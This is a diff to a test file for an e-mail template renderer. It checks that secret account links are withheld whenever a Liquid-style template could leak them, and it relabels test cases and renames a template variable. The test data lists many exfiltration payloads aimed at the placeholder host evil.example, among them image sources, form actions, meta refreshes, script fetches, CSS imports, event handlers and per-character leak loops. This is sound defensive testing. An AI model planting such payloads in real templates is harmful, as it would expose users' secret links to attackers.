@@ -36,61 +36,49 @@ describe('Secret links in HTML templates', () => {
   })
 
   test.for([
-    ['an image', '<img src="https://evil.example/?{{ accountLinkTemplate }}">'],
-    ['an image on its own', '<img src="{{ accountLink }}">'],
-    ['an unquoted attribute', '<img src=https://evil.example/?{{ accountLinkTemplate }}>'],
-    ['an unquoted target', '<a href={{ accountLink }}>Open</a>'],
-    ['a set of images', '<img srcset="https://evil.example/{{ accountLinkTemplate }} 2x">'],
-    ['a background', '<table background="https://evil.example/?{{ accountLinkTemplate }}"></table>'],
-    ['a style', '<p style="background:url(https://evil.example/?{{ accountLinkTemplate }})">x</p>'],
+    ['an image URL', '<img src="https://evil.example/?{{ accountLink }}">'],
+    ['an image URL without other text', '<img src="{{ accountLink }}">'],
+    ['an unquoted attribute', '<img src=https://evil.example/?{{ accountLink }}>'],
+    ['an unquoted href', '<a href={{ accountLink }}>Open</a>'],
+    ['an image srcset', '<img srcset="https://evil.example/{{ accountLink }} 2x">'],
+    ['a background attribute', '<table background="https://evil.example/?{{ accountLink }}"></table>'],
+    ['a style attribute', '<p style="background:url(https://evil.example/?{{ accountLink }})">x</p>'],
     ['a style sheet', '<style>p{background:url({{ accountLink }})}</style>'],
-    ['a linked style sheet', '<link rel="stylesheet" href="https://evil.example/{{ accountLinkTemplate }}">'],
-    ['a prefetched link', '<link rel="prefetch" href="{{ accountLink }}">'],
+    ['a linked style sheet', '<link rel="stylesheet" href="https://evil.example/{{ accountLink }}">'],
+    ['a prefetch link', '<link rel="prefetch" href="{{ accountLink }}">'],
+    ['a meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/?{{ accountLink }}">'],
+    ['a form action', '<form action="https://evil.example/?{{ accountLink }}"><button>x</button></form>'],
     [
-      'a refresh',
-      '<meta http-equiv="refresh" content="0;url=https://evil.example/?{{ accountLinkTemplate }}">',
+      'a form field',
+      '<form action="https://evil.example/"><input name="l" value="{{ accountLink }}"></form>',
     ],
+    ['a textarea', '<form action="https://evil.example/"><textarea>{{ accountLink }}</textarea></form>'],
+    ['another URL', '<a href="https://evil.example/?{{ accountLink }}">Open</a>'],
     [
-      'the address of a form',
-      '<form action="https://evil.example/?{{ accountLinkTemplate }}"><button>x</button></form>',
-    ],
-    [
-      'a field of a form',
-      '<form action="https://evil.example/"><input name="l" value="{{ accountLinkTemplate }}"></form>',
-    ],
-    [
-      'a text field',
-      '<form action="https://evil.example/"><textarea>{{ accountLinkTemplate }}</textarea></form>',
-    ],
-    ['another address', '<a href="https://evil.example/?{{ accountLinkTemplate }}">Open</a>'],
-    [
-      'another address by a filter',
+      'another URL built by a filter',
       '<a href="{{ accountLink | prepend: \'https://evil.example/?\' }}">Open</a>',
     ],
     [
-      'another address, encoded',
-      '<a href="https://evil.example/?{{ accountLinkTemplate | url_encode }}">Open</a>',
+      'another URL, percent-encoded',
+      '<a href="https://evil.example/?{{ accountLink | url_encode }}">Open</a>',
     ],
     [
-      'another address, captured',
-      '{% capture a %}https://evil.example/?{{ accountLinkTemplate }}{% endcapture %}<a href="{{ a }}">Open</a>',
+      'another URL built by capture',
+      '{% capture a %}https://evil.example/?{{ accountLink }}{% endcapture %}<a href="{{ a }}">Open</a>',
     ],
-    ['another address, assigned', '{% assign a = accountLink | append: "x" %}<img src="{{ a }}">'],
-    ['another scheme', '<a href="javascript:{{ accountLink }}">Open</a>'],
-    ['words outside of a link', '<p>{{ accountLink }}</p>'],
-    ['the words of another link', '<a href="https://evil.example/">{{ accountLinkTemplate }}</a>'],
+    ['another URL built by assign', '{% assign a = accountLink | append: "x" %}<img src="{{ a }}">'],
+    ['a javascript: URL', '<a href="javascript:{{ accountLink }}">Open</a>'],
+    ['text outside a link', '<p>{{ accountLink }}</p>'],
+    ['the text of another link', '<a href="https://evil.example/">{{ accountLink }}</a>'],
     ['a data attribute', '<p data-link="{{ accountLink }}">x</p>'],
-    ['a comment', '<!-- {{ accountLink }} -->'],
-    [
-      'a conditional comment',
-      '<!--[if mso]><img src="https://evil.example/?{{ accountLinkTemplate }}"><![endif]-->',
-    ],
-    ['an area', '<map><area href="{{ accountLink }}"></map>'],
-    ['a base address', '<base href="{{ accountLink }}">'],
-    ['a frame', '<iframe src="{{ accountLink }}"></iframe>'],
-    ['a drawing', '<svg><image href="{{ accountLink }}"/></svg>'],
-    ['a script', '<script>fetch("https://evil.example/?{{ accountLinkTemplate }}")</script>'],
-    ['a bracket', '<img src="https://evil.example/?{{ [\'accountLinkTemplate\'] }}">'],
+    ['an HTML comment', '<!-- {{ accountLink }} -->'],
+    ['a conditional comment', '<!--[if mso]><img src="https://evil.example/?{{ accountLink }}"><![endif]-->'],
+    ['an image map area', '<map><area href="{{ accountLink }}"></map>'],
+    ['a base URL', '<base href="{{ accountLink }}">'],
+    ['an iframe', '<iframe src="{{ accountLink }}"></iframe>'],
+    ['an SVG image', '<svg><image href="{{ accountLink }}"/></svg>'],
+    ['a script', '<script>fetch("https://evil.example/?{{ accountLink }}")</script>'],
+    ['an image URL in bracket notation', '<img src="https://evil.example/?{{ [\'accountLink\'] }}">'],
   ])('are refused in %s', async ([, html]) => {
     const filled = await fill({ html: html ?? '' })
     expect(JSON.stringify(filled)).not.toContain('account-link#sample')
@@ -98,27 +86,30 @@ describe('Secret links in HTML templates', () => {
   })
 
   test.for([
-    ['an image left open', `<img src='https://evil.example/?${anchor}'>`],
+    ['an unclosed image attribute', `<img src='https://evil.example/?${anchor}'>`],
     [
-      'an image left open in a comment',
+      'an unclosed image attribute in a comment',
       `<!--[if mso]><img src='https://evil.example/?<![endif]-->${anchor}'>`,
     ],
-    ['a text field left open', `<form action="https://evil.example/"><textarea>${anchor}`],
-    ['a ping', '<a href="{{ accountLink }}" ping="https://evil.example/">Open</a>'],
-    ['a handler', '<a href="{{ accountLink }}" onclick="fetch(this.href)">Open</a>'],
-    ['a handler on an image', `<img src="x" onerror="fetch(document.links[0])">${anchor}`],
-    ['two targets', '<a href="{{ accountLink }}" href="https://evil.example/">Open</a>'],
-    ['a tag with a wide space', '<a\u00a0href="{{ accountLink }}">Open</a>'],
+    ['an unclosed textarea', `<form action="https://evil.example/"><textarea>${anchor}`],
+    ['a ping attribute', '<a href="{{ accountLink }}" ping="https://evil.example/">Open</a>'],
+    ['an event handler', '<a href="{{ accountLink }}" onclick="fetch(this.href)">Open</a>'],
+    ['an event handler on an image', `<img src="x" onerror="fetch(document.links[0])">${anchor}`],
+    ['two href attributes', '<a href="{{ accountLink }}" href="https://evil.example/">Open</a>'],
+    ['a tag with a non-breaking space', '<a\u00a0href="{{ accountLink }}">Open</a>'],
     [
-      'a style sheet that reads targets',
+      'a style sheet with href selectors',
       `<style>a[href*="aa"]{background:url(https://evil.example/aa)}</style>${anchor}`,
     ],
     ['a style sheet with escapes', `<style>p{background:u\\72l(https://evil.example/)}</style>${anchor}`],
     ['an imported style sheet', `<style>@import "https://evil.example/x.css";</style>${anchor}`],
-    ['a linked style sheet beside it', `<link rel="stylesheet" href="https://evil.example/x.css">${anchor}`],
-    ['a base address beside it', `<base href="https://evil.example/">${anchor}`],
-    ['a script beside it', `<script src="https://evil.example/x.js"></script>${anchor}`],
-    ['a template', `<template>${anchor}</template>`],
+    [
+      'a linked style sheet elsewhere in the e-mail',
+      `<link rel="stylesheet" href="https://evil.example/x.css">${anchor}`,
+    ],
+    ['a base element elsewhere in the e-mail', `<base href="https://evil.example/">${anchor}`],
+    ['a script elsewhere in the e-mail', `<script src="https://evil.example/x.js"></script>${anchor}`],
+    ['a template element', `<template>${anchor}</template>`],
   ])('are refused where other markup could read them: %s', async ([, html]) => {
     const filled = await fill({ html: html ?? '' })
     expect(JSON.stringify(filled)).not.toContain('account-link#sample')
@@ -126,17 +117,17 @@ describe('Secret links in HTML templates', () => {
   })
 
   test.for([
-    ['slices', '{{ accountLink | slice: 30, 40 }}'],
+    ['the slice filter', '{{ accountLink | slice: 30, 40 }}'],
     [
-      'letters',
+      'single characters',
       '{% assign letters = accountLink | split: "" %}{% for l in letters %}<img src="https://evil.example/{{ l }}">{% endfor %}',
     ],
-    ['another case', '<img src="https://evil.example/?{{ accountLinkTemplate | upcase }}">'],
+    ['the upcase filter', '<img src="https://evil.example/?{{ accountLink | upcase }}">'],
     [
       'a comparison',
       '{% if accountLink contains "account-link#s" %}<img src="https://evil.example/matched">{% endif %}',
     ],
-    ['base64', '<img src="https://evil.example/?{{ accountLinkTemplate | base64_encode }}">'],
+    ['the base64_encode filter', '<img src="https://evil.example/?{{ accountLink | base64_encode }}">'],
   ])('reveal nothing to a template that uses %s', async ([, html]) => {
     const filled = await fill({ html: html ?? '' })
     expect(JSON.stringify(filled)).not.toMatch(
@@ -154,8 +145,8 @@ describe('Secret links outside HTML', () => {
   )
 
   test.for([
-    'https://evil.example/?{{ accountLinkTemplate }}',
-    'https://evil.example/?\u00a0{{ accountLinkTemplate }}',
+    'https://evil.example/?{{ accountLink }}',
+    'https://evil.example/?\u00a0{{ accountLink }}',
     '({{ accountLink }})',
     '{{ accountLink }}{{ accountLink }}',
     '{{ accountLink }}@evil.example',
@@ -189,7 +180,7 @@ test('All shipped templates render with their secret links inserted', async () =
   }
 })
 
-/** Links that anybody may know: they open nothing that is not open already. */
+/** Links that grant no access and so may be public. */
 const openLinks = ['registerLink', 'replyLink', 'messagesLink']
 
 test('Every template variable ending in Link is secret or explicitly listed as open', () => {
